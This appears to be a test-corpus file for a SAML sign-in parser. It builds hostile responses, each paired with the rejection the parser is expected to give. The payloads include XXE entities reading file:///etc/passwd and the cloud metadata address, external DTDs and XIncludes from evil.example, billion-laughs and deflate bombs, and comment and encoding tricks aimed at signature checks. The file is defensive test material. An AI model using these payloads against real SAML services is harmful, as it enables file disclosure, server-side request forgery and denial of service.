import { deflateRawSync } from 'node:zlib';
import type { Attack } from '@/tests/sso/saml/corpus/attack';
import { extendedBy } from '@/tests/sso/saml/corpus/pieces';
import type { How } from '@/tests/support/saml-provider';

type Make = Attack[3];

/** What was signed is about somebody whose name begins with Alice's. */
const longName: How = { assertion: { nameId: { value: 'name-of-alice.evil' } } };

/** The portal's answer about that person, its text changed by what no signature covers. */
function cut(put: string): Make {
  return ({ respond }) => respond(longName).xml.replace('name-of-alice', `name-of-alice${put}`);
}

/** The same in the value of an attribute. */
function cutValue(put: string): Make {
  return ({ respond }) => {
    const attributes = [{ name: 'uid', values: ['alice.evil'] }];
    return respond({ assertion: { attributes } }).xml.replace('>alice', `>alice${put}`);
  };
}

function before(prolog: string): Make {
  return ({ good }) => prolog + good.xml;
}

/** A document type, and where its entity stands. */
function doctype(declarations: string, name = 'name-of-alice'): Make {
  return ({ good }) =>
    `<!DOCTYPE samlp:Response [${declarations}]>${good.xml.replace('name-of-alice', name)}`;
}

function extension(inside: string): Make {
  return ({ good }) => extendedBy(good.xml, inside);
}

function changed(change: (xml: string) => string): Make {
  return ({ good }) => change(good.xml);
}

function bytes(change: (xml: string) => Uint8Array): Make {
  return ({ good }) => change(good.xml);
}

const LAUGHS = `<!ENTITY l0 "lol">${Array.from(
  { length: 9 },
  (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
).join('')}`;

/** What one reader takes for one text, and the next for another. */
export const decorations: Attack[] = [
  ['a comment in the name', 'malformed_answer', /^a comment$/, cut('<!---->')],
  [
    'a comment in the value of an attribute',
    'malformed_answer',
    /^a comment$/,
    cutValue('<!-- -->'),
  ],
  ['a comment before everything', 'malformed_answer', /^a comment$/, before('<!-- -->')],
  [
    'a comment behind everything',
    'malformed_answer',
    /^a comment$/,
    changed((xml) => `${xml}<!-- -->`),
  ],
  [
    'a comment between elements',
    'malformed_answer',
    /^a comment$/,
    changed((xml) => xml.replace('<saml:Subject>', '<saml:Subject><!---->')),
  ],
  [
    'a processing instruction in the name',
    'malformed_answer',
    /^a processing instruction$/,
    cut('<?x y?>'),
  ],
  [
    'a processing instruction in the value of an attribute',
    'malformed_answer',
    /^a processing instruction$/,
    cutValue('<?x?>'),
  ],
  [
    'a style sheet',
    'malformed_answer',
    /^a processing instruction$/,
    before('<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>'),
  ],
  ['a piece of CDATA in the name', 'malformed_answer', /^a CDATA section$/, cut('<![CDATA[]]>')],
  [
    'a name in CDATA',
    'malformed_answer',
    /^a CDATA section$/,
    changed((xml) => xml.replace('name-of-alice', '<![CDATA[name-of-alice]]>')),
  ],
  ['a value in CDATA', 'malformed_answer', /^a CDATA section$/, cutValue('<![CDATA[]]>')],
  [
    'an element in the name',
    'attributes',
    /^NameID cannot be used$/,
    { assertion: { nameId: '<saml:NameID>name-of-alice<x xmlns="">.evil</x></saml:NameID>' } },
  ],
  [
    'an XInclude for the name',
    'malformed_answer',
    /^an XInclude$/,
    changed((xml) =>
      xml.replace(
        'name-of-alice',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
      ),
    ),
  ],
  [
    'an XInclude in an extension',
    'malformed_answer',
    /^an XInclude$/,
    extension(
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://evil.example/assertion.xml"/>',
    ),
  ],
];

/** Entities, and where they come from. */
export const entities: Attack[] = [
  ['an empty document type', 'malformed_answer', /^a document type declaration$/, doctype('')],
  [
    'a document type from elsewhere',
    'malformed_answer',
    /^a document type declaration$/,
    before('<!DOCTYPE samlp:Response SYSTEM "https://evil.example/x.dtd">'),
  ],
  [
    'a public document type',
    'malformed_answer',
    /^a document type declaration$/,
    before('<!DOCTYPE samlp:Response PUBLIC "-//X//EN" "https://evil.example/x.dtd">'),
  ],
  [
    'an entity for the name',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n "name-of-alice">', '&n;'),
  ],
  [
    'an entity from a file',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n SYSTEM "file:///etc/passwd">', '&n;'),
  ],
  [
    'an entity from elsewhere',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n SYSTEM "http://169.254.169.254/latest/meta-data/">', '&n;'),
  ],
  [
    'a parameter entity',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;'),
  ],
  [
    'a billion laughs',
    'malformed_answer',
    /^a document type declaration$/,
    doctype(LAUGHS, '&l9;'),
  ],
  [
    'an entity of 100 KB a thousand times',
    'malformed_answer',
    /^a document type declaration$/,
    doctype(`<!ENTITY n "${'x'.repeat(100_000)}">`, '&n;'.repeat(1000)),
  ],
  [
    'an entity of itself',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ENTITY n "&n;">', '&n;'),
  ],
  [
    'an attribute by default',
    'malformed_answer',
    /^a document type declaration$/,
    doctype('<!ATTLIST saml:Assertion ID ID "_x">'),
  ],
  [
    'an entity that nobody declared',
    'malformed_answer',
    /^not well-formed: undefined entity\.$/,
    changed((xml) => xml.replace('name-of-alice', 'name-of-alice&nbsp;')),
  ],
  [
    'a document type behind a byte order mark',
    'malformed_answer',
    /^a document type declaration$/,
    before('\uFEFF<!DOCTYPE x>'),
  ],
];

/** What is no document, or one to some readers. */
export const documents: Attack[] = [
  [
    'two attributes ID',
    'malformed_answer',
    /^not well-formed: duplicate attribute: ID\.$/,
    changed((xml) => xml.replace('<saml:Assertion ', '<saml:Assertion ID="_other" ')),
  ],
  [
    'two attributes of one name by two prefixes',
    'malformed_answer',
    /^not well-formed: duplicate attribute: \{urn:x\}n\.$/,
    changed((xml) =>
      xml.replace(
        '<saml:Assertion ',
        '<saml:Assertion xmlns:a="urn:x" xmlns:b="urn:x" a:n="1" b:n="2" ',
      ),
    ),
  ],
  [
    'a prefix that nobody declared',
    'malformed_answer',
    /^not well-formed: unbound namespace prefix: "x"\.$/,
    changed((xml) => xml.replace('<saml:Subject>', '<x:y/><saml:Subject>')),
  ],
  [
    'a prefix that is taken back',
    'malformed_answer',
    /^not well-formed: invalid attempt to undefine prefix in XML 1\.0$/,
    changed((xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:saml="">')),
  ],
  [
    'the prefix xml for something else',
    'malformed_answer',
    /^not well-formed: xml prefix must be bound to http:\/\/www\.w3\.org\/XML\/1998\/namespace\.$/,
    changed((xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:xml="urn:x">')),
  ],
  [
    'the prefix xmlns declared',
    'malformed_answer',
    /^not well-formed: xmlns prefix must be bound to http:\/\/www\.w3\.org\/2000\/xmlns\/\.$/,
    changed((xml) => xml.replace('<saml:Subject>', '<saml:Subject xmlns:xmlns="urn:x">')),
  ],
  [
    'another ID by a prefix',
    'signature',
    /^no certificate of the portal verifies it$/,
    ({ good }) =>
      good.xml.replace('<saml:Assertion ', '<saml:Assertion xmlns:x="urn:x" x:ID="_other" '),
  ],
  [
    'the namespace of SAML in other letters',
    'malformed_answer',
    /^no Response$/,
    changed((xml) => xml.replace('SAML:2.0:protocol', 'saml:2.0:protocol')),
  ],
  [
    'the namespace of SAML with a space',
    'malformed_answer',
    /^white space in a namespace$/,
    changed((xml) => xml.replace('SAML:2.0:protocol"', 'SAML:2.0:protocol "')),
  ],
  [
    'no namespace',
    'malformed_answer',
    /^no Response$/,
    changed((xml) => xml.replaceAll('samlp:', '').replace(/xmlns:samlp/, 'xmlns:x')),
  ],
  [
    'two roots',
    'malformed_answer',
    /^not well-formed: documents may contain only one root\.$/,
    changed((xml) => xml + xml),
  ],
  [
    'words before it',
    'malformed_answer',
    /^not well-formed: text data outside of root node\.$/,
    before('words'),
  ],
  [
    'words behind it',
    'malformed_answer',
    /^not well-formed: text data outside of root node\.$/,
    changed((xml) => `${xml}words`),
  ],
  [
    'no end',
    'malformed_answer',
    /^not well-formed: unclosed tag: samlp:Response$/,
    changed((xml) => xml.slice(0, -10)),
  ],
  [
    'an XML declaration in the middle',
    'malformed_answer',
    /^not well-formed: an XML declaration must be at the start of the document\.$/,
    changed((xml) => xml.replace('<saml:Subject>', '<?xml version="1.0"?><saml:Subject>')),
  ],
  ['XML 1.1', 'malformed_answer', /^not XML 1\.0$/, before('<?xml version="1.1"?>')],
  [
    'XML 2.0',
    'malformed_answer',
    /^not well-formed: version number must match \/\^1\\\.\[0-9\]\+\$\/\.$/,
    before('<?xml version="2.0"?>'),
  ],
  [
    'a declaration of UTF-16',
    'malformed_answer',
    /^not UTF-8$/,
    before('<?xml version="1.0" encoding="UTF-16"?>'),
  ],
  [
    'a declaration of UTF-7',
    'malformed_answer',
    /^not UTF-8$/,
    before('<?xml version="1.0" encoding="UTF-7"?>'),
  ],
  [
    'a declaration of Latin-1',
    'malformed_answer',
    /^not UTF-8$/,
    before('<?xml version="1.0" encoding="ISO-8859-1"?>'),
  ],
  [
    'UTF-16, little end first',
    'malformed_answer',
    /^no UTF-8$/,
    bytes((xml) => Buffer.from(`\uFEFF${xml}`, 'utf16le')),
  ],
  [
    'UTF-16, big end first',
    'malformed_answer',
    /^no UTF-8$/,
    bytes((xml) => Buffer.from(`\uFEFF${xml}`, 'utf16le').swap16()),
  ],
  [
    'UTF-16 without a mark',
    'malformed_answer',
    /^not well-formed: disallowed character\.$/,
    bytes((xml) => Buffer.from(xml, 'utf16le')),
  ],
  [
    'UTF-7',
    'malformed_answer',
    /^not well-formed: text data outside of root node\.$/,
    changed((xml) => xml.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')),
  ],
  ['an overlong letter', 'malformed_answer', /^no UTF-8$/, bytes((xml) => put(xml, [0xc1, 0xa1]))],
  [
    'an overlong slash',
    'malformed_answer',
    /^no UTF-8$/,
    bytes((xml) => put(xml, [0xe0, 0x80, 0xaf])),
  ],
  [
    'half a pair of UTF-16 in UTF-8',
    'malformed_answer',
    /^no UTF-8$/,
    bytes((xml) => put(xml, [0xed, 0xa0, 0x80])),
  ],
  ['half a letter', 'malformed_answer', /^no UTF-8$/, bytes((xml) => put(xml, [0xc3]))],
  [
    'a byte that is none of UTF-8',
    'malformed_answer',
    /^no UTF-8$/,
    bytes((xml) => put(xml, [0xff])),
  ],
  [
    'a NUL',
    'malformed_answer',
    /^not well-formed: disallowed character\.$/,
    bytes((xml) => put(xml, [0])),
  ],
  [
    'a NUL by number',
    'malformed_answer',
    /^not well-formed: malformed character entity\.$/,
    changed((xml) => xml.replace('name-of-alice', 'name-of-alice&#0;')),
  ],
  [
    'a control character',
    'malformed_answer',
    /^not well-formed: disallowed character\.$/,
    bytes((xml) => put(xml, [8])),
  ],
  [
    'a control character by number',
    'malformed_answer',
    /^not well-formed: malformed character entity\.$/,
    changed((xml) => xml.replace('name-of-alice', 'name-of-alice&#x8;')),
  ],
  [
    'half a pair by number',
    'malformed_answer',
    /^not well-formed: malformed character entity\.$/,
    changed((xml) => xml.replace('name-of-alice', 'name-of-alice&#xD800;')),
  ],
  [
    'a page of HTML',
    'malformed_answer',
    /^no Response$/,
    () => '<html><body>Sign in</body></html>',
  ],
  [
    'JSON',
    'malformed_answer',
    /^not well-formed: text data outside of root node\.$/,
    () => '{"Response":{}}',
  ],
  [
    'nothing but white space',
    'malformed_answer',
    /^not well-formed: document must contain a root element\.$/,
    () => ' \n ',
  ],
  [
    'deflated XML, as a redirect has it',
    'malformed_answer',
    /^no UTF-8$/,
    bytes((xml) => deflateRawSync(xml)),
  ],
  [
    'a bomb of deflated zeros',
    'malformed_answer',
    /^no UTF-8$/,
    bytes(() => deflateRawSync(Buffer.alloc(50_000_000))),
  ],
];

/** More of something than any portal sends. */
export const tooMuch: Attack[] = [
  [
    '300 KB of white space',
    'malformed_answer',
    /^over 256 KiB$/,
    changed((xml) => xml.replace('<saml:Subject>', `${' '.repeat(300_000)}<saml:Subject>`)),
  ],
  [
    'a megabyte in an extension',
    'malformed_answer',
    /^over 256 KiB$/,
    extension(`<x xmlns="">${'x'.repeat(1_000_000)}</x>`),
  ],
  [
    'a megabyte of elements',
    'malformed_answer',
    /^over 256 KiB$/,
    extension('<x xmlns=""/>'.repeat(80_000)),
  ],
  [
    'a hundred elements in each other',
    'malformed_answer',
    /^too deep$/,
    extension(`${'<x xmlns="">'.repeat(100)}${'</x>'.repeat(100)}`),
  ],
  [
    'ten thousand elements in each other',
    'malformed_answer',
    /^too deep$/,
    extension(`${'<x xmlns="">'.repeat(10_000)}${'</x>'.repeat(10_000)}`),
  ],
  ['ten thousand beginnings', 'malformed_answer', /^too deep$/, () => '<x>'.repeat(10_000)],
  [
    '5,000 elements',
    'malformed_answer',
    /^too many elements$/,
    extension('<x xmlns=""/>'.repeat(5_000)),
  ],
  [
    '5,000 attributes of one element',
    'malformed_answer',
    /^too many attributes$/,
    extension(`<x xmlns="" ${Array.from({ length: 5_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
  ],
  [
    '5,000 namespaces of one element',
    'malformed_answer',
    /^too many attributes$/,
    extension(
      `<x xmlns="" ${Array.from({ length: 5_000 }, (_, n) => `xmlns:a${n}="urn:x"`).join(' ')}/>`,
    ),
  ],
  [
    '5,000 attributes of a person',
    'malformed_answer',
    /^over 256 KiB$/,
    {
      assertion: {
        attributes: Array.from({ length: 5_000 }, (_, n) => ({ name: `a${n}`, values: ['x'] })),
      },
    },
  ],
  [
    'a name of 200 KB',
    'attributes',
    /^NameID cannot be used$/,
    { assertion: { nameId: { value: 'x'.repeat(200_000) } } },
  ],
  [
    'a name of 1,025 characters',
    'attributes',
    /^NameID cannot be used$/,
    { assertion: { nameId: { value: 'x'.repeat(1_025) } } },
  ],
  [
    'an ID of 100 KB',
    'malformed_answer',
    /^an ID that is none$/,
    { assertion: { id: `_${'x'.repeat(100_000)}` } },
  ],
];

/** Bytes into the middle of the name. */
function put(xml: string, inside: number[]): Uint8Array {
  const [start = '', end = ''] = xml.split('of-alice');
  return Buffer.concat([Buffer.from(start), Buffer.from(inside), Buffer.from(`of-alice${end}`)]);
}
